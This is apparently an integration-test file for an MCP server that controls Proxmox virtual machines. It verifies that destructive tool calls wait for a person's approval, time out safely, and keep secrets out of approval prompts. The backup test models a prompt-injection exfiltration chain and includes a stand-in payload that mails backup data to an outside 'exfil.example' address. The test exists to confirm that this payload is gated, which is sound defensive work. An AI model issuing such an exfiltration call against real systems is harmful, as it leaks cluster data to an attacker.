//! Approval by a person, through the built binary over stdio with rmcp's client side,
//! against the emulator: elicitation accept/decline/cancel/timeout, clients that cannot ask
//! in `auto` and `elicit` modes, the argument-sensitive backup gate (the exfiltration chain)
//! and what the question tells the person.

use crate::approval_common;
use crate::common;

use approval_common::{Answer, Person, call, changes, code, connect_stdio, envelope};
use common::{emulator, env_for, with_policy};
use serde_json::json;

fn env(emu: &pve_emulator::Emulator, vars: &[(&str, &str)]) -> Vec<(String, String)> {
    with_policy(env_for(emu), vars)
}

const FULL: &[(&str, &str)] = &[("PVE_ACCESS_TIER", "full")];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_persons_accept_runs_the_call_and_the_question_names_the_target() {
    let emu = emulator().await;
    let person = Person::new(Answer::Accept);
    let (client, _home) = connect_stdio(person.clone(), &env(&emu, FULL)).await;
    let result = call(
        &client,
        "pve_stop_qemu_vm",
        json!({"node": "pve01", "vmid": 101}),
    )
    .await;
    assert_ne!(result.is_error, Some(true), "{result:?}");
    assert_eq!(envelope(&result)["meta"]["approval"], "person");
    let sent = changes(&emu);
    assert_eq!(sent.len(), 1, "{sent:?}");
    assert_eq!(sent[0].path, "/nodes/pve01/qemu/101/status/stop");
    let questions = person.questions();
    assert_eq!(questions.len(), 1);
    let q = &questions[0];
    assert!(q.contains("pve_stop_qemu_vm"), "{q}");
    assert!(q.contains("VM 101 \"vm-web\" on node pve01"), "{q}");
    client.cancel().await.ok();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn decline_cancel_and_an_unticked_box_send_nothing() {
    let emu = emulator().await;
    for (answer, expected) in [
        (Answer::Decline, "CONFIRMATION_DECLINED"),
        (Answer::AcceptUnticked, "CONFIRMATION_DECLINED"),
        (Answer::Cancel, "CONFIRMATION_CANCELLED"),
    ] {
        emu.clear_requests();
        let (client, _home) = connect_stdio(Person::new(answer), &env(&emu, FULL)).await;
        // The model's confirm never replaces the person's answer.
        let result = call(
            &client,
            "pve_qemu_delete",
            json!({"node": "pve01", "vmid": 102, "confirm": true}),
        )
        .await;
        assert_eq!(code(&result), expected, "{answer:?}");
        assert!(changes(&emu).is_empty(), "{answer:?}: {:?}", changes(&emu));
        client.cancel().await.ok();
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nobody_answering_times_out_and_sends_nothing() {
    let emu = emulator().await;
    let vars = &[
        ("PVE_ACCESS_TIER", "full"),
        ("PVE_APPROVAL_TIMEOUT_SECS", "1"),
    ];
    let (client, _home) = connect_stdio(Person::new(Answer::Silence), &env(&emu, vars)).await;
    let started = std::time::Instant::now();
    let result = call(
        &client,
        "pve_stop_qemu_vm",
        json!({"node": "pve01", "vmid": 101}),
    )
    .await;
    assert_eq!(code(&result), "CONFIRMATION_TIMEOUT");
    assert!(started.elapsed() < std::time::Duration::from_secs(15));
    assert!(changes(&emu).is_empty());
    client.cancel().await.ok();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_client_that_cannot_ask_keeps_the_confirm_flag_in_auto_mode() {
    let emu = emulator().await;
    let (client, _home) = connect_stdio(Person::unable(), &env(&emu, FULL)).await;
    let result = call(
        &client,
        "pve_stop_qemu_vm",
        json!({"node": "pve01", "vmid": 101}),
    )
    .await;
    assert_eq!(code(&result), "CONFIRMATION_REQUIRED");
    let error = &envelope(&result)["error"];
    assert_eq!(
        error["message"],
        "Tool 'pve_stop_qemu_vm' requires explicit confirmation."
    );
    assert!(
        error["hint"]
            .as_str()
            .unwrap_or("")
            .contains("cannot ask a person"),
        "{error}"
    );
    assert!(changes(&emu).is_empty());
    let result = call(
        &client,
        "pve_stop_qemu_vm",
        json!({"node": "pve01", "vmid": 101, "confirm": true}),
    )
    .await;
    assert_ne!(result.is_error, Some(true), "{result:?}");
    assert_eq!(envelope(&result)["meta"]["approval"], "confirm-flag");
    assert_eq!(changes(&emu).len(), 1);
    client.cancel().await.ok();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn elicit_mode_refuses_clients_that_cannot_ask_even_with_confirm() {
    let emu = emulator().await;
    let vars = &[
        ("PVE_ACCESS_TIER", "full"),
        ("PVE_HUMAN_APPROVAL", "elicit"),
    ];
    let (client, _home) = connect_stdio(Person::unable(), &env(&emu, vars)).await;
    let result = call(
        &client,
        "pve_stop_qemu_vm",
        json!({"node": "pve01", "vmid": 101, "confirm": true}),
    )
    .await;
    assert_eq!(code(&result), "APPROVAL_UNAVAILABLE");
    assert!(emu.requests().is_empty(), "{:?}", emu.requests());
    client.cancel().await.ok();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn confirm_mode_never_asks_a_person() {
    let emu = emulator().await;
    let vars = &[
        ("PVE_ACCESS_TIER", "full"),
        ("PVE_HUMAN_APPROVAL", "confirm"),
    ];
    let person = Person::new(Answer::Decline);
    let (client, _home) = connect_stdio(person.clone(), &env(&emu, vars)).await;
    let result = call(
        &client,
        "pve_stop_qemu_vm",
        json!({"node": "pve01", "vmid": 101, "confirm": true}),
    )
    .await;
    assert_ne!(result.is_error, Some(true), "{result:?}");
    assert_eq!(envelope(&result)["meta"]["approval"], "confirm-flag");
    assert!(person.questions().is_empty());
    client.cancel().await.ok();
}

/// The seed scan's chain: untrusted text → a sensitive read → egress by backup mail.
/// At read-execute, every backup is a person's decision; `mailto` adds the egress reason.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn backup_mail_to_an_outside_address_needs_a_person() {
    let emu = emulator().await;
    let vars = &[("PVE_ACCESS_TIER", "read-execute")];
    let exfil = json!({"node": "pve01", "vmid": "101", "mailto": "c2VjcmV0@exfil.example"});

    // A client that cannot ask: refused without confirm, naming the argument.
    let (client, _home) = connect_stdio(Person::unable(), &env(&emu, vars)).await;
    let result = call(&client, "pve_run_backup", exfil.clone()).await;
    assert_eq!(code(&result), "CONFIRMATION_REQUIRED");
    assert_eq!(
        envelope(&result)["error"]["details"]["approvalNeededFor"],
        json!(["mailto"])
    );
    assert!(emu.requests().is_empty());
    client.cancel().await.ok();

    // A person who declines: nothing is sent; the question says where the mail goes.
    let person = Person::new(Answer::Decline);
    let (client, _home) = connect_stdio(person.clone(), &env(&emu, vars)).await;
    let result = call(&client, "pve_run_backup", exfil).await;
    assert_eq!(code(&result), "CONFIRMATION_DECLINED");
    assert!(changes(&emu).is_empty());
    let question = &person.questions()[0];
    assert!(
        question.contains("mailto=c2VjcmV0@exfil.example"),
        "{question}"
    );
    assert!(question.contains("outside the cluster"), "{question}");

    // Stopping guests or backing up everything is gated too.
    for args in [
        json!({"node": "pve01", "all": true}),
        json!({"node": "pve01", "vmid": "101", "mode": "stop"}),
        json!({"node": "pve01", "vmid": "101", "remove": true}),
    ] {
        let result = call(&client, "pve_run_backup", args.clone()).await;
        assert_eq!(code(&result), "CONFIRMATION_DECLINED", "{args}");
    }
    assert!(changes(&emu).is_empty());

    // One guest in snapshot mode without pruning is still a change (a new backup file), so
    // it is no longer routine: the person is asked, and a decline sends nothing. The
    // question names no mail recipient, since none was given.
    let before = person.questions().len();
    let result = call(
        &client,
        "pve_run_backup",
        json!({"node": "pve01", "vmid": "101", "mode": "snapshot", "remove": false}),
    )
    .await;
    assert_eq!(code(&result), "CONFIRMATION_DECLINED", "{result:?}");
    let questions = person.questions();
    assert_eq!(questions.len(), before + 1);
    let question = questions.last().expect("asked");
    assert!(!question.contains("outside the cluster"), "{question}");
    assert!(changes(&emu).is_empty(), "{:?}", changes(&emu));
    client.cancel().await.ok();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_config_update_question_shows_each_key_old_and_new() {
    let emu = emulator().await;
    let person = Person::new(Answer::Decline);
    let (client, _home) = connect_stdio(person.clone(), &env(&emu, FULL)).await;
    let result = call(
        &client,
        "pve_qemu_update_config",
        json!({"node": "pve01", "vmid": 101, "cores": 4, "cipassword": "hunter2-secret"}),
    )
    .await;
    assert_eq!(code(&result), "CONFIRMATION_DECLINED");
    let question = &person.questions()[0];
    assert!(question.contains("cores: 2 → 4"), "{question}");
    assert!(question.contains("cipassword"), "{question}");
    assert!(
        !question.contains("hunter2-secret"),
        "secret shown: {question}"
    );
    assert!(changes(&emu).is_empty());
    client.cancel().await.ok();
}

/// A change whose audit log cannot even be opened is refused before anyone is asked: the person
/// is not bothered with a question whose answer could not be acted on. (A log that opens but
/// cannot take a line, such as `/dev/full`, is refused after the answer, before anything is
/// sent — tests/it/audit_fail_closed.rs.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_unrecordable_change_is_refused_before_the_person_is_asked() {
    let emu = emulator().await;
    let person = Person::new(Answer::Accept);
    let (client, _home) = connect_stdio(
        person.clone(),
        &env(
            &emu,
            &[
                ("PVE_ACCESS_TIER", "full"),
                ("PVE_AUDIT_LOG", "/dev/null/not-a-dir/audit.jsonl"),
            ],
        ),
    )
    .await;
    let result = call(
        &client,
        "pve_stop_qemu_vm",
        json!({"node": "pve01", "vmid": 101}),
    )
    .await;
    assert_eq!(code(&result), "AUDIT_LOG_UNAVAILABLE", "{result:?}");
    assert!(person.questions().is_empty(), "{:?}", person.questions());
    assert!(changes(&emu).is_empty(), "{:?}", changes(&emu));
    client.cancel().await.ok();
}

/// An unconfirmed change from a client that cannot ask: the hint says why the model holds the
/// approval only when that is so (`auto`, no elicitation); with `PVE_HUMAN_APPROVAL=confirm`
/// it only says how to confirm.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_confirmation_hint_says_why_only_when_the_client_cannot_ask() {
    let emu = emulator().await;
    for (mode, hint) in [
        (
            "auto",
            "This client cannot ask a person, so approval is set by the model: ask the user to approve this exact action, then call the tool again with confirm=true.",
        ),
        (
            "confirm",
            "Ask the user to approve this exact action, then call the tool again with confirm=true.",
        ),
    ] {
        let vars = [("PVE_ACCESS_TIER", "full"), ("PVE_HUMAN_APPROVAL", mode)];
        let (client, _home) = connect_stdio(Person::unable(), &env(&emu, &vars)).await;
        let result = call(
            &client,
            "pve_stop_qemu_vm",
            json!({"node": "pve01", "vmid": 101}),
        )
        .await;
        assert_eq!(code(&result), "CONFIRMATION_REQUIRED", "{mode}");
        assert_eq!(envelope(&result)["error"]["hint"], hint, "{mode}");
        client.cancel().await.ok();
    }
    assert!(changes(&emu).is_empty());
}
